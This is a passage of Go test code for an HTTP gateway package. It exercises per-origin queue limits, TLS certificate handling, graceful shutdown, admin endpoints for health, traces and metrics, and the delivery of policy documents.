	// Cleanups run LIFO: unwedge the handler before g.Close waits for
	// the workers, even when the test fails early.
	var releaseOnce sync.Once
	releaseFn := func() { releaseOnce.Do(func() { close(release) }) }
	t.Cleanup(releaseFn)

	get := func() int {
		req, _ := http.NewRequest("GET", "http://"+g.Addr()+"/", nil)
		req.Host = "slow.example"
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return -1
		}
		io.Copy(io.Discard, resp.Body) //nolint:errcheck
		resp.Body.Close()
		return resp.StatusCode
	}

	// Fill the single worker (request A), then the depth-1 queue
	// (request B), deterministically.
	codes := make(chan int, 2)
	var wg sync.WaitGroup
	wg.Add(1)
	go func() { defer wg.Done(); codes <- get() }()
	select {
	case <-started:
	case <-time.After(5 * time.Second):
		t.Fatal("slow handler never started")
	}
	wg.Add(1)
	go func() { defer wg.Done(); codes <- get() }()
	vh := g.table.Load().byOrigin[slow]
	deadline := time.Now().Add(5 * time.Second)
	for len(vh.jobs) < 1 {
		if time.Now().After(deadline) {
			t.Fatal("request B never reached the queue")
		}
		time.Sleep(time.Millisecond)
	}

	// The worker is busy and the queue is full: request C must be
	// rejected immediately with 503, not block.
	if code := get(); code != 503 {
		t.Fatalf("overflow request: status %d, want 503", code)
	}
	if st := g.Stats(); st.Rejected503 != 1 {
		t.Fatalf("Rejected503 = %d, want 1", st.Rejected503)
	}

	// Releasing the handler drains A and B successfully.
	releaseFn()
	wg.Wait()
	close(codes)
	for code := range codes {
		if code != 200 {
			t.Fatalf("queued request finished with %d, want 200", code)
		}
	}

	// One hot origin must not starve the rest: the fast origin still
	// answers while slow.example's worker is wedged.
	resp := rawGet(t, g, "fast.example", "/", nil)
	if body := readBody(t, resp); resp.StatusCode != 200 || !strings.Contains(body, "host=fast") {
		t.Fatalf("fast origin starved: %d %q", resp.StatusCode, body)
	}
}

func TestGracefulShutdown(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://app.example")
	n.Register(o, echoHandler("app"))
	g := startGateway(t, n, Config{})
	addr := g.Addr()

	readBody(t, rawGet(t, g, "app.example", "/", nil))
	if err := g.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if _, err := http.Get("http://" + addr + "/healthz"); err == nil {
		t.Fatal("listener still accepting after Shutdown")
	}
}

// atomic64 is a tiny counter for handler-side assertions.
type atomic64 struct {
	mu sync.Mutex
	n  int64
}

func (a *atomic64) add(d int64) { a.mu.Lock(); a.n += d; a.mu.Unlock() }
func (a *atomic64) load() int64 { a.mu.Lock(); defer a.mu.Unlock(); return a.n }
