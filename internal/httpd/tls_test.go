package httpd

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/origin"
	"repro/internal/web"
)

// startGatewayTLS is startGateway with a fresh ephemeral CA
// terminating https on the listener.
func startGatewayTLS(t *testing.T, n *web.Network, cfg Config) (*Gateway, *CA) {
	t.Helper()
	ca, err := NewCA()
	if err != nil {
		t.Fatalf("NewCA: %v", err)
	}
	cfg.Inner = n
	cfg.TLS = ca
	g, err := New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if err := g.MountNetwork(n); err != nil {
		t.Fatalf("MountNetwork: %v", err)
	}
	if err := g.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() { g.Close() })
	return g, ca
}

func tlsTestNetwork(t *testing.T, body string) (*web.Network, origin.Origin) {
	t.Helper()
	n := web.NewNetwork()
	o := origin.MustParse("http://app.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(body)
		resp.Header.Set(core.HeaderMaxRing, core.DefaultMaxRing.String())
		return resp
	}))
	return n, o
}

// TestTLSServesOrigins drives a browser-shaped round trip over https
// and checks both the payload and that the transport really is TLS.
func TestTLSServesOrigins(t *testing.T) {
	n, o := tlsTestNetwork(t, "<html><body><p id=x>secure</p></body></html>")
	g, ca := startGatewayTLS(t, n, Config{})
	if !g.TLS() {
		t.Fatal("gateway does not report TLS")
	}
	ct := NewClientTransportTLS(g.Addr(), ca.Pool())
	defer ct.Close()
	if !ct.TLS() {
		t.Fatal("client transport does not report TLS")
	}
	resp, err := ct.RoundTrip(web.NewRequest("GET", o.URL("/")))
	if err != nil {
		t.Fatalf("RoundTrip over TLS: %v", err)
	}
	if resp.Status != 200 || resp.Body == "" {
		t.Fatalf("TLS response = %d %q", resp.Status, resp.Body)
	}

	// A client that does not trust the CA must be refused at the
	// handshake — the gateway's identity is not anonymous.
	plain := NewClientTransportTLS(g.Addr(), nil)
	defer plain.Close()
	if _, err := plain.RoundTrip(web.NewRequest("GET", o.URL("/"))); err == nil {
		t.Fatal("round trip with an empty trust pool succeeded")
	}
}

// TestTLSPerOriginLeafs pins the CA behavior: each SNI name gets its
// own leaf certificate carrying exactly that name, and SNI-less
// probes (admin clients dialing the IP) get the loopback default.
func TestTLSPerOriginLeafs(t *testing.T) {
	n, _ := tlsTestNetwork(t, "<html><body>leaf</body></html>")
	widget := origin.MustParse("http://widget.example")
	n.Register(widget, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML("<html><body>w</body></html>")
	}))
	g, ca := startGatewayTLS(t, n, Config{})

	for _, host := range []string{"app.example", "widget.example"} {
		conn, err := tls.Dial("tcp", g.Addr(), &tls.Config{RootCAs: ca.Pool(), ServerName: host})
		if err != nil {
			t.Fatalf("handshake for %s: %v", host, err)
		}
		leaf := conn.ConnectionState().PeerCertificates[0]
		conn.Close()
		if len(leaf.DNSNames) != 1 || leaf.DNSNames[0] != host {
			t.Fatalf("leaf for %s carries names %v", host, leaf.DNSNames)
		}
	}

	// No SNI: dialing the raw IP address must still verify (the
	// supervisor's readiness probe does exactly this).
	conn, err := tls.Dial("tcp", g.Addr(), &tls.Config{RootCAs: ca.Pool()})
	if err != nil {
		t.Fatalf("SNI-less handshake: %v", err)
	}
	leaf := conn.ConnectionState().PeerCertificates[0]
	conn.Close()
	if len(leaf.IPAddresses) == 0 {
		t.Fatalf("default leaf has no IP SANs: %+v", leaf.DNSNames)
	}
}

// adminClient is an https client for the gateway's admin endpoints,
// trusting the given CA.
func adminClient(ca *CA) *http.Client {
	return &http.Client{
		Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: ca.Pool()}},
		Timeout:   5 * time.Second,
	}
}

// TestCAFileRoundTrip pins the supervisor hand-off artifact: the CA
// certificate written to disk loads into a pool that verifies the
// gateway's leafs; the private key never travels.
func TestCAFileRoundTrip(t *testing.T) {
	n, o := tlsTestNetwork(t, "<html><body>pem</body></html>")
	g, ca := startGatewayTLS(t, n, Config{})

	path := filepath.Join(t.TempDir(), "ca.pem")
	if err := ca.WriteCertPEM(path); err != nil {
		t.Fatalf("WriteCertPEM: %v", err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	if len(data) == 0 {
		t.Fatal("empty CA file")
	}
	if strings.Contains(string(data), "PRIVATE KEY") {
		t.Fatal("CA file carries key material")
	}
	pool, err := LoadCAPool(path)
	if err != nil {
		t.Fatalf("LoadCAPool: %v", err)
	}
	ct := NewClientTransportTLS(g.Addr(), pool)
	defer ct.Close()
	if _, err := ct.RoundTrip(web.NewRequest("GET", o.URL("/"))); err != nil {
		t.Fatalf("round trip with file-loaded pool: %v", err)
	}
	if _, err := LoadCAPool(filepath.Join(t.TempDir(), "missing.pem")); err == nil {
		t.Fatal("LoadCAPool on a missing file succeeded")
	}
}

// TestHealthzReadiness pins the liveness/readiness split: a HoldReady
// gateway answers /livez 200 immediately but /healthz stays 503
// "starting" until SetReady — so a supervisor polling readiness can
// never observe a half-mounted gateway.
func TestHealthzReadiness(t *testing.T) {
	n, _ := tlsTestNetwork(t, "<html><body>r</body></html>")
	ca, err := NewCA()
	if err != nil {
		t.Fatalf("NewCA: %v", err)
	}
	g, err := New(Config{Inner: n, TLS: ca, HoldReady: true})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if err := g.MountNetwork(n); err != nil {
		t.Fatalf("MountNetwork: %v", err)
	}
	if err := g.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}
	defer g.Close()

	client := adminClient(ca)
	base := "https://" + g.Addr()

	resp, err := client.Get(base + "/livez")
	if err != nil {
		t.Fatalf("livez: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("livez status = %d, want 200", resp.StatusCode)
	}

	resp, err = client.Get(base + "/healthz")
	if err != nil {
		t.Fatalf("healthz: %v", err)
	}
	var h healthzJSON
	if err := json.NewDecoder(resp.Body).Decode(&h); err != nil {
		t.Fatalf("healthz JSON: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable || h.Status != "starting" || h.Ready {
		t.Fatalf("pre-ready healthz = %d %+v, want 503 starting", resp.StatusCode, h)
	}
	if !h.TLS {
		t.Fatalf("healthz does not report TLS: %+v", h)
	}

	g.SetReady(true)
	resp, err = client.Get(base + "/healthz")
	if err != nil {
		t.Fatalf("healthz after SetReady: %v", err)
	}
	if err := json.NewDecoder(resp.Body).Decode(&h); err != nil {
		t.Fatalf("healthz JSON: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || h.Status != "ok" || !h.Ready {
		t.Fatalf("post-ready healthz = %d %+v, want 200 ok", resp.StatusCode, h)
	}
}

// TestClientConnReuse pins the keep-alive counters: a request stream
// from one transport reuses pooled connections, and the stats split
// new vs reused accordingly.
func TestClientConnReuse(t *testing.T) {
	n, o := tlsTestNetwork(t, "<html><body>ka</body></html>")
	g, ca := startGatewayTLS(t, n, Config{})
	ct := NewClientTransportTLS(g.Addr(), ca.Pool())
	defer ct.Close()

	const rounds = 6
	for i := 0; i < rounds; i++ {
		if _, err := ct.RoundTrip(web.NewRequest("GET", o.URL(fmt.Sprintf("/?i=%d", i)))); err != nil {
			t.Fatalf("round %d: %v", i, err)
		}
	}
	st := ct.Stats()
	if st.Requests != rounds {
		t.Fatalf("Requests = %d, want %d", st.Requests, rounds)
	}
	if st.NewConns < 1 {
		t.Fatalf("NewConns = %d, want >= 1", st.NewConns)
	}
	if st.ReusedConns == 0 {
		t.Fatalf("ReusedConns = 0 over %d sequential requests: %+v", rounds, st)
	}
	if st.NewConns+st.ReusedConns != st.Requests {
		t.Fatalf("conn counts don't cover requests: %+v", st)
	}
	if st.ReuseRate() <= 0 {
		t.Fatalf("ReuseRate = %v", st.ReuseRate())
	}
	// Delta math used by the per-phase BENCH rows.
	if d := ct.Stats().Sub(st); d.Requests != 0 || d.NewConns != 0 || d.ReusedConns != 0 {
		t.Fatalf("Sub of identical snapshots = %+v", d)
	}
}

// TestGracefulShutdownTLSInFlight pins the drain contract under TLS:
// requests in flight (including ones sitting in origin queues) when
// Shutdown begins all complete with full responses, and a second
// Shutdown is a no-op.
func TestGracefulShutdownTLSInFlight(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://slow.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		time.Sleep(50 * time.Millisecond)
		return web.HTML("<html><body>done</body></html>")
	}))
	// One worker and a deep queue: most requests are queued, not
	// running, when Shutdown starts — the drain must cover them too.
	g, ca := startGatewayTLS(t, n, Config{DefaultWorkers: 1, DefaultQueueDepth: 32})
	ct := NewClientTransportTLS(g.Addr(), ca.Pool())
	defer ct.Close()

	const inflight = 8
	results := make([]error, inflight)
	var wg sync.WaitGroup
	for i := 0; i < inflight; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			resp, err := ct.RoundTrip(web.NewRequest("GET", o.URL(fmt.Sprintf("/?i=%d", i))))
			if err == nil && (resp.Status != 200 || resp.Body == "") {
				err = fmt.Errorf("truncated response: %d %q", resp.Status, resp.Body)
			}
			results[i] = err
		}(i)
	}
	// Let the requests reach the gateway before shutting down.
	time.Sleep(20 * time.Millisecond)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := g.Shutdown(ctx); err != nil {
		t.Fatalf("Shutdown: %v", err)
	}
	wg.Wait()
	for i, err := range results {
		if err != nil {
			t.Fatalf("request %d dropped during graceful TLS shutdown: %v", i, err)
		}
	}
	// Second Shutdown: no-op, returns promptly and cleanly.
	start := time.Now()
	if err := g.Shutdown(context.Background()); err != nil {
		t.Fatalf("second Shutdown: %v", err)
	}
	if d := time.Since(start); d > 2*time.Second {
		t.Fatalf("second Shutdown took %v", d)
	}
	// And the listener really is closed.
	if _, err := ct.RoundTrip(web.NewRequest("GET", o.URL("/"))); err == nil {
		t.Fatal("round trip succeeded after Shutdown")
	}
}
