package httpd

import (
	"crypto/tls"
	"encoding/json"
	"net/http"
	"reflect"
	"testing"

	"repro/internal/browser"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/web"
)

// tracedFixedSession is runFixedSession with provenance wired the way
// the engine wires it: a decision ring shared with the deployment and
// one task trace installed for the run.
func tracedFixedSession(t *testing.T, transport web.Transport, bench, forumO origin.Origin, topic int, ring *obs.DecisionRing) (*browser.Browser, *obs.Trace) {
	t.Helper()
	b := browser.New(transport, browser.Options{Mode: browser.ModeEscudo, DecisionRing: ring})
	tr := obs.NewTrace()
	b.SetTrace(tr)
	driveFixedWorkload(t, b, bench, forumO, topic)
	b.SetTrace(nil)
	return b, tr
}

// fetchTracez queries the admin /tracez endpoint over the given
// scheme and decodes the document.
func fetchTracez(t *testing.T, client *http.Client, scheme, addr, query string) tracezJSON {
	t.Helper()
	resp, err := client.Get(scheme + "://" + addr + "/tracez" + query)
	if err != nil {
		t.Fatalf("GET /tracez: %v", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /tracez: status %d", resp.StatusCode)
	}
	var doc tracezJSON
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
		t.Fatalf("decoding /tracez: %v", err)
	}
	return doc
}

// assertTraceLinks checks the PR's provenance invariant on one leg:
// the server-side request log carries the trace ID, and the same ID
// stamps at least one audited decision in the browser.
func assertTraceLinks(t *testing.T, leg string, n *web.Network, b *browser.Browser, tr *obs.Trace) {
	t.Helper()
	logged := 0
	for _, e := range n.Log() {
		if e.TraceID == tr.ID() {
			logged++
		}
	}
	if logged == 0 {
		t.Fatalf("%s: no server-logged request carries trace %s", leg, tr.ID())
	}
	stamped := 0
	for _, d := range b.Audit.All() {
		if d.TraceID == tr.ID() {
			stamped++
		}
	}
	if stamped == 0 {
		t.Fatalf("%s: no audited decision carries trace %s", leg, tr.ID())
	}
	t.Logf("%s: trace %s links %d logged requests to %d audited decisions", leg, tr.ID(), logged, stamped)
}

// TestTraceProvenanceEquivalence extends the transport-equivalence
// invariant to the provenance layer: the traced pipeline produces
// decision sequences identical to the untraced one over the in-memory
// network, a plain HTTP gateway, and a TLS/h2 gateway — and on every
// leg one trace ID links the server-logged requests to the audited
// decisions. On the gateway legs the trace is recovered from the
// admin /tracez endpoint, not from process memory.
func TestTraceProvenanceEquivalence(t *testing.T) {
	// Untraced baseline: the exact sessions the existing equivalence
	// tests pin.
	baseNet, bBench, bForumO, bTopic := buildSubstrate()
	baseline := runFixedSession(t, baseNet, bBench, bForumO, bTopic)
	baseTally := auditTally(baseline)
	baseLen := baseline.Audit.Len()
	if baseLen == 0 {
		t.Fatal("baseline session recorded no decisions; workload broken")
	}

	// Leg 1: traced over the in-memory web.Network.
	memNet, mBench, mForumO, mTopic := buildSubstrate()
	memRing := obs.NewDecisionRing(0)
	memB, memTr := tracedFixedSession(t, memNet, mBench, mForumO, mTopic, memRing)
	if got := memB.Audit.Len(); got != baseLen {
		t.Fatalf("in-memory traced decision count %d, untraced %d", got, baseLen)
	}
	if got := auditTally(memB); !reflect.DeepEqual(baseTally, got) {
		t.Fatalf("in-memory traced tally diverges:\n  untraced: %v\n  traced:   %v", baseTally, got)
	}
	assertTraceLinks(t, "in-memory", memNet, memB, memTr)
	if got := len(memRing.Snapshot(obs.RingFilter{TraceID: memTr.ID(), Ring: -1})); got == 0 {
		t.Fatal("in-memory: decision ring holds no events for the trace")
	}

	// Leg 2: traced over a plain HTTP gateway, trace recovered from
	// /tracez on the admin host.
	httpNet, hBench, hForumO, hTopic := buildSubstrate()
	httpRing := obs.NewDecisionRing(0)
	hg := startGateway(t, httpNet, Config{Ring: httpRing})
	hct := NewClientTransport(hg.Addr())
	defer hct.Close()
	httpB, httpTr := tracedFixedSession(t, hct, hBench, hForumO, hTopic, httpRing)
	if got := httpB.Audit.Len(); got != baseLen {
		t.Fatalf("http traced decision count %d, untraced %d", got, baseLen)
	}
	if got := auditTally(httpB); !reflect.DeepEqual(baseTally, got) {
		t.Fatalf("http traced tally diverges:\n  untraced: %v\n  traced:   %v", baseTally, got)
	}
	assertTraceLinks(t, "http", httpNet, httpB, httpTr)
	doc := fetchTracez(t, http.DefaultClient, "http", hg.Addr(), "?trace="+httpTr.ID())
	if doc.Matched == 0 {
		t.Fatalf("/tracez recovered no events for trace %s (total %d)", httpTr.ID(), doc.Total)
	}
	for _, e := range doc.Events {
		if e.TraceID != httpTr.ID() {
			t.Fatalf("/tracez filter leaked foreign event: %+v", e)
		}
	}

	// Leg 3: traced over a TLS gateway negotiating h2.
	tlsNet, tBench, tForumO, tTopic := buildSubstrate()
	tlsRing := obs.NewDecisionRing(0)
	tg, ca := startGatewayTLS(t, tlsNet, Config{Ring: tlsRing})
	tct := NewClientTransportTLS(tg.Addr(), ca.Pool())
	defer tct.Close()
	tlsB, tlsTr := tracedFixedSession(t, tct, tBench, tForumO, tTopic, tlsRing)
	if st := tct.Stats(); st.Proto() != "h2" {
		t.Fatalf("TLS leg did not negotiate h2 (proto %q)", st.Proto())
	}
	if got := tlsB.Audit.Len(); got != baseLen {
		t.Fatalf("tls/h2 traced decision count %d, untraced %d", got, baseLen)
	}
	if got := auditTally(tlsB); !reflect.DeepEqual(baseTally, got) {
		t.Fatalf("tls/h2 traced tally diverges:\n  untraced: %v\n  traced:   %v", baseTally, got)
	}
	assertTraceLinks(t, "tls/h2", tlsNet, tlsB, tlsTr)
	tlsClient := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: ca.Pool()}}}
	tdoc := fetchTracez(t, tlsClient, "https", tg.Addr(), "?trace="+tlsTr.ID())
	if tdoc.Matched == 0 {
		t.Fatalf("tls/h2 /tracez recovered no events for trace %s (total %d)", tlsTr.ID(), tdoc.Total)
	}
}

// TestTracezFiltersAndGating pins /tracez's admin isolation (a mounted
// origin's Host never reaches it; deployments without a ring 404) and
// its filter surface.
func TestTracezFiltersAndGating(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://tracez-origin.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML("<html><body>ok</body></html>")
	}))

	// No ring wired: admin /tracez is 404, like pprof when disabled.
	bare := startGateway(t, n, Config{})
	resp := rawGet(t, bare, "", "/tracez", nil)
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("/tracez without a ring: status %d, want 404", resp.StatusCode)
	}

	ring := obs.NewDecisionRing(16)
	ring.Record(obs.DecisionEvent{TraceID: "t-1", Origin: o.String(), Ring: 1, Allowed: true, Rule: "allowed"})
	ring.Record(obs.DecisionEvent{TraceID: "t-2", Origin: o.String(), Ring: 3, Allowed: false, Rule: "ring-rule"})
	g := startGateway(t, n, Config{Ring: ring})

	doc := fetchTracez(t, http.DefaultClient, "http", g.Addr(), "")
	if doc.Total != 2 || doc.Matched != 2 {
		t.Fatalf("unfiltered /tracez: %+v", doc)
	}
	doc = fetchTracez(t, http.DefaultClient, "http", g.Addr(), "?verdict=deny&ring=3")
	if doc.Matched != 1 || doc.Events[0].TraceID != "t-2" {
		t.Fatalf("filtered /tracez: %+v", doc)
	}
	resp = rawGet(t, g, "", "/tracez?ring=banana", nil)
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("/tracez with bad ring: status %d, want 400", resp.StatusCode)
	}

	// A web origin's Host header must never expose the admin surface:
	// the path routes to the origin's handler instead.
	resp = rawGet(t, g, "tracez-origin.example", "/tracez", nil)
	body := readBody(t, resp)
	if resp.StatusCode != http.StatusOK || body != "<html><body>ok</body></html>" {
		t.Fatalf("/tracez on an origin host: status %d body %q", resp.StatusCode, body)
	}
}

// TestVarzExposition pins the admin /varz surface: Prometheus text
// exposition of the gateway's registry, reachable only on the admin
// host.
func TestVarzExposition(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://varz-origin.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML("<html><body>ok</body></html>")
	}))
	g := startGateway(t, n, Config{})

	// Drive one origin request so the counters move.
	resp := rawGet(t, g, "varz-origin.example", "/", nil)
	resp.Body.Close()

	resp = rawGet(t, g, "", "/varz", nil)
	body := readBody(t, resp)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/varz: status %d", resp.StatusCode)
	}
	for _, want := range []string{
		"# TYPE escudo_gateway_served_total counter",
		"escudo_gateway_served_total 1",
		`escudo_origin_served_total{origin="http://varz-origin.example"} 1`,
		"# TYPE escudo_gateway_queue_depth_max gauge",
	} {
		if !contains(body, want) {
			t.Fatalf("/varz missing %q:\n%s", want, body)
		}
	}

	// The origin's Host must not expose the registry.
	resp = rawGet(t, g, "varz-origin.example", "/varz", nil)
	body = readBody(t, resp)
	if contains(body, "escudo_gateway_served_total") {
		t.Fatalf("/varz leaked onto a web origin's host: %q", body)
	}
}

func contains(s, sub string) bool {
	return len(sub) == 0 || len(s) >= len(sub) && (s == sub || indexOf(s, sub) >= 0)
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}
