package httpd

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/web"
)

// forumPolicy builds a representative policy document for an origin.
func forumPolicy(o origin.Origin) policy.Policy {
	p := policy.New(o, 3)
	p.Cookies["sid"] = policy.Uniform(1)
	p.APIs["xmlhttprequest"] = 1
	p.Delegate(origin.MustParse("http://widget.example"), 2)
	return p
}

// TestPolicyWireDelivery pins the unified document's trip over the
// wire: the well-known per-origin path and the admin /policyz endpoint
// both serve a document that parses back equal to the mounted one.
func TestPolicyWireDelivery(t *testing.T) {
	n := web.NewNetwork()
	forum := origin.MustParse("http://forum.example")
	bare := origin.MustParse("http://bare.example")
	n.Register(forum, echoHandler("forum"))
	n.Register(bare, echoHandler("bare"))

	doc := forumPolicy(forum)
	g := startGateway(t, n, Config{
		Origins: map[string]OriginConfig{forum.String(): {Policy: &doc}},
	})

	// Per-origin wire delivery at the well-known path.
	resp := rawGet(t, g, "forum.example", PolicyPath, nil)
	body := readBody(t, resp)
	if resp.StatusCode != 200 {
		t.Fatalf("GET %s: %d %s", PolicyPath, resp.StatusCode, body)
	}
	got, err := policy.Parse([]byte(body))
	if err != nil {
		t.Fatalf("served policy does not parse: %v\n%s", err, body)
	}
	if !got.Equal(doc) {
		t.Fatalf("served policy diverges:\n want %+v\n got  %+v", doc, got)
	}

	// An origin without a mounted policy falls through to its handler.
	resp = rawGet(t, g, "bare.example", PolicyPath, nil)
	if body := readBody(t, resp); resp.StatusCode != 200 || !strings.Contains(body, "host=bare") {
		t.Fatalf("policy-less origin hijacked: %d %q", resp.StatusCode, body)
	}

	// Admin /policyz lists every mounted document under the fleet
	// generation (1: the mount's seed publication was the only swap)...
	resp = rawGet(t, g, g.Addr(), "/policyz", nil)
	var listing policyzJSON
	if err := json.Unmarshal([]byte(readBody(t, resp)), &listing); err != nil {
		t.Fatalf("policyz: %v", err)
	}
	if listing.Generation != 1 {
		t.Fatalf("policyz generation = %d, want 1", listing.Generation)
	}
	if len(listing.Policies) != 1 || !listing.Policies[forum.String()].Equal(doc) {
		t.Fatalf("policyz = %+v", listing.Policies)
	}
	if listing.Revs[forum.String()] != 1 {
		t.Fatalf("policyz revs = %+v, want forum at 1", listing.Revs)
	}
	// ...and answers per-origin queries.
	resp = rawGet(t, g, g.Addr(), "/policyz?origin=http://forum.example", nil)
	single, err := policy.Parse([]byte(readBody(t, resp)))
	if err != nil || !single.Equal(doc) {
		t.Fatalf("policyz?origin: %v %+v", err, single)
	}
	resp = rawGet(t, g, g.Addr(), "/policyz?origin=http://bare.example", nil)
	io.Copy(io.Discard, resp.Body) //nolint:errcheck
	resp.Body.Close()
	if resp.StatusCode != 404 {
		t.Fatalf("policyz for policy-less origin: %d, want 404", resp.StatusCode)
	}
}

// TestMountRejectsBadPolicy pins mount-time validation: invalid
// documents and documents naming a different origin never mount.
func TestMountRejectsBadPolicy(t *testing.T) {
	n := web.NewNetwork()
	forum := origin.MustParse("http://forum.example")
	n.Register(forum, echoHandler("forum"))
	g, err := New(Config{Inner: n})
	if err != nil {
		t.Fatal(err)
	}
	bad := forumPolicy(forum)
	bad.MaxRing = -1
	if err := g.MountOpts(forum, OriginConfig{Policy: &bad}); err == nil {
		t.Fatal("mounted an invalid policy")
	}
	other := forumPolicy(origin.MustParse("http://other.example"))
	if err := g.MountOpts(forum, OriginConfig{Policy: &other}); err == nil {
		t.Fatal("mounted a policy naming a different origin")
	}
}

// TestAdmissionWeightsShapeQueues pins the weight arithmetic: unset
// workers/queue scale from the defaults by the origin's weight,
// explicit values win.
func TestAdmissionWeightsShapeQueues(t *testing.T) {
	n := web.NewNetwork()
	a := origin.MustParse("http://a.example")
	b := origin.MustParse("http://b.example")
	c := origin.MustParse("http://c.example")
	for _, o := range []origin.Origin{a, b, c} {
		n.Register(o, echoHandler(o.Host))
	}
	g, err := New(Config{Inner: n, DefaultWorkers: 2, DefaultQueueDepth: 8})
	if err != nil {
		t.Fatal(err)
	}
	if err := g.Mount(a); err != nil {
		t.Fatal(err)
	}
	if err := g.MountOpts(b, OriginConfig{Weight: 3}); err != nil {
		t.Fatal(err)
	}
	if err := g.MountOpts(c, OriginConfig{Weight: 3, Workers: 1, QueueDepth: 2}); err != nil {
		t.Fatal(err)
	}
	want := map[origin.Origin][2]int{a: {2, 8}, b: {6, 24}, c: {1, 2}}
	for o, shape := range want {
		vh := g.table.Load().byOrigin[o]
		if vh.cfg.Workers != shape[0] || cap(vh.jobs) != shape[1] {
			t.Errorf("%s: workers=%d queue=%d, want %v", o, vh.cfg.Workers, cap(vh.jobs), shape)
		}
	}
}

// TestOverflowFairnessAcrossWeights wedges two origins — one default
// weight, one weight-2 — and floods both to capacity: the light origin
// overflows to 503 at its own bound while the heavy origin absorbs
// twice the load, and neither origin's overflow shows up on the
// other's counters.
func TestOverflowFairnessAcrossWeights(t *testing.T) {
	n := web.NewNetwork()
	light := origin.MustParse("http://light.example")
	heavy := origin.MustParse("http://heavy.example")
	release := make(chan struct{})
	started := make(chan string, 16)
	wedge := func(name string) web.Handler {
		return web.HandlerFunc(func(req *web.Request) *web.Response {
			started <- name
			<-release
			return web.HTML("done " + name)
		})
	}
	n.Register(light, wedge("light"))
	n.Register(heavy, wedge("heavy"))

	g, err := New(Config{
		Inner:             n,
		DefaultWorkers:    1,
		DefaultQueueDepth: 1,
		Origins:           map[string]OriginConfig{heavy.String(): {Weight: 2}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := g.MountNetwork(n); err != nil {
		t.Fatal(err)
	}
	if err := g.Start("127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { g.Close() })
	var releaseOnce sync.Once
	releaseFn := func() { releaseOnce.Do(func() { close(release) }) }
	t.Cleanup(releaseFn)

	get := func(host string) int {
		req, _ := http.NewRequest("GET", "http://"+g.Addr()+"/", nil)
		req.Host = host
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return -1
		}
		io.Copy(io.Discard, resp.Body) //nolint:errcheck
		resp.Body.Close()
		return resp.StatusCode
	}
	// fill launches in-flight requests until the origin's workers are
	// busy and its queue is full, deterministically: workers signal via
	// started, queued jobs are observed through the queue length.
	var wg sync.WaitGroup
	fill := func(o origin.Origin, workers, depth int) {
		t.Helper()
		for i := 0; i < workers; i++ {
			wg.Add(1)
			go func() { defer wg.Done(); get(hostKey(o)) }()
			select {
			case <-started:
			case <-time.After(5 * time.Second):
				t.Fatalf("%s worker %d never started", o, i)
			}
		}
		vh := g.table.Load().byOrigin[o]
		for i := 0; i < depth; i++ {
			wg.Add(1)
			go func() { defer wg.Done(); get(hostKey(o)) }()
		}
		deadline := time.Now().Add(5 * time.Second)
		for len(vh.jobs) < depth {
			if time.Now().After(deadline) {
				t.Fatalf("%s queue never filled (%d/%d)", o, len(vh.jobs), depth)
			}
			time.Sleep(time.Millisecond)
		}
	}

	fill(light, 1, 1) // capacity 2
	fill(heavy, 2, 2) // capacity 4: twice the admission

	// Both origins at capacity: each overflows within its own bound.
	if code := get(hostKey(light)); code != 503 {
		t.Fatalf("light overflow: %d, want 503", code)
	}
	if code := get(hostKey(heavy)); code != 503 {
		t.Fatalf("heavy overflow: %d, want 503", code)
	}

	// Fairness: the drops landed on the origin that overflowed, not on
	// its neighbor, and the weighted origin absorbed twice the traffic.
	table := g.table.Load()
	lightVH, heavyVH := table.byOrigin[light], table.byOrigin[heavy]
	if lightVH.dropped.Value() != 1 || heavyVH.dropped.Value() != 1 {
		t.Fatalf("dropped: light=%d heavy=%d, want 1 each",
			lightVH.dropped.Value(), heavyVH.dropped.Value())
	}
	releaseFn()
	wg.Wait()
